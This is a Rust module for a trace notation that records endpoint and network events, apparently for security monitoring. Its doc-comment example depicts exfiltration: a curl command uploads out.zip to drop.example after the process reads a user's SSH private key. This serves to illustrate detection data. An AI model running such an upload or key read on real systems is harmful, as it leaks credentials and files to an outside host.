//! The trace notation: records as short lines that people write, read and shrink.
//!
//! ```text
//! # A comment. Words with blanks stand in "double quotes"; \" \\ \n \t \r \u{1f} are escapes in them.
//! day 2026-03-01                    the day of times without one (this one unless told)
//! host mac1                         whose records follow (`mac` unless told)
//! source precision=1s stream=2 seq=no versions=no     defaults of the endpoint events that follow
//!
//! process zsh pid=400 parent=1 platform com.apple.zsh /bin/zsh
//! 09:00:00      fork zsh -> 401
//! 09:00:00.010  exec 401 platform com.apple.curl /usr/bin/curl cwd=/Users/ana : curl -T out.zip https://drop.example/
//! 09:00:01      read 401 /Users/ana/.ssh/id_rsa size=2000
//! 09:00:01      open 401 /tmp/k for=rw
//! 09:00:01      create 401 /tmp/k
//! 09:00:01      write 401 /tmp/k
//! 09:00:01      close 401 /tmp/k modified size=2000
//! 09:00:01      truncate 401 /tmp/k
//! 09:00:01      rename 401 /tmp/k -> /tmp/l size=2000
//! 09:00:01      copy 401 /tmp/k -> /tmp/l
//! 09:00:01      link 401 /tmp/k -> /tmp/l
//! 09:00:01      unlink 401 /tmp/k
//! 09:00:01      mount 401 https://dav.example/ -> /Volumes/d
//! 09:00:01      connect 401 tcp 10.0.0.5:50000 -> 203.0.113.9:443       (near end optional)
//! 09:00:02      exit 401
//!
//! 09:00:02      flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 3s out=40000 in=900 service=ssl
//! 09:00:02      tls C1 sni=drop.example version=TLSv13 established cert=F1 validated=yes
//! 09:00:02      dns 10.0.0.5 drop.example -> 203.0.113.9 198.51.100.7 ttl=60
//! 09:00:02      cert F1 subject="CN=drop.example" issuer="CN=R3" from=2026-01-01T00:00:00
//! 09:00:02      lease 10.0.0.5 for 3600s name=mac1 hardware=00:00:5e:00:53:01
//! gap 09:00:00 - 09:00:05 lost 12
//! ```
//!
//! **Times** are `[date T]hour:minute:second[.fraction]`, lengths are numbers with `ns`, `us`, `ms`,
//! `s`, `m` or `h`.
//!
//! **Processes** are named by `process NAME pid=KEY ..`, or by their pid, which means its latest
//! life. A key is `pid`, `pid.version`, or `pid.-` for one without a version. A key without a
//! version gets the host's next one where a life or an image begins (`process`, `fork`, `exec`),
//! unless `source versions=no`. `exec 401 -> 401.9 ..` gives the target's key. A fork hands on
//! everything but the keys; an exec changes key and image only. Attributes `parent= original=
//! responsible= auid= user= group= session=` say otherwise (`-` takes away), on `process`, on the
//! child of `fork` and on the target of `exec`.
//!
//! **Identities**: `platform ID`, `dev TEAM ID` (valid), `adhoc ID`, `invalid TEAM ID`, `unsigned`,
//! `unknown` (nothing is known, the default), refined by `team= id= cdhash= platform=yes|no|-
//! signature=`. The path of the program follows.
//!
//! **Exec**: arguments follow ` : `; before it `cwd=`, `script=`, and `partial` if they are cut.
//!
//! **Every endpoint event** takes `seq=N` (or `seq=-`), `stream=N`, `precision=LENGTH`. Without
//! `seq=` it gets the next number of its stream. **Every row** takes `precision=LENGTH` (1us) and
//! `assumed`, for a host that was assumed. A handshake takes the ends of the flow above it that has
//! the same uid, or `A -> B tcp` after its uid; flags `established`, `failed`, `quic`, `ech`; and
//! `subject= issuer= validated=yes|no`. A flow takes `missed` and several `service=`.
//!
//! A record's digest is a hash of its host and content, so that a line given twice with the same
//! `seq=` is a duplicate. Its origin is the line.

mod digest;
mod endpoint;
mod line;
mod lives;
mod network;
mod parse;
mod process;
mod render;
mod render_network;
mod time;

use tollgate_model::Record;

pub use digest::{digest, seal};

/// What is wrong with a trace.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("line {line}: {message}")]
pub struct TraceError {
    /// Number of the line, from 1.
    pub line: usize,
    /// What is wrong with it.
    pub message: String,
}

/// Reads a trace.
///
/// # Errors
/// Where a line is not of the notation.
pub fn parse(text: &str) -> Result<Vec<Record>, TraceError> {
    parse::records(text)
}

/// Writes records as a trace, so that reading it gives the same records again, apart from their
/// origins. What the reader would fill in by itself is left out.
pub fn render(records: &[Record]) -> String {
    render::text(records)
}

/// A time as it is written, with its day.
pub(crate) fn written_time(at: tollgate_model::Timestamp) -> String {
    time::render_time(at, i64::MIN)
}
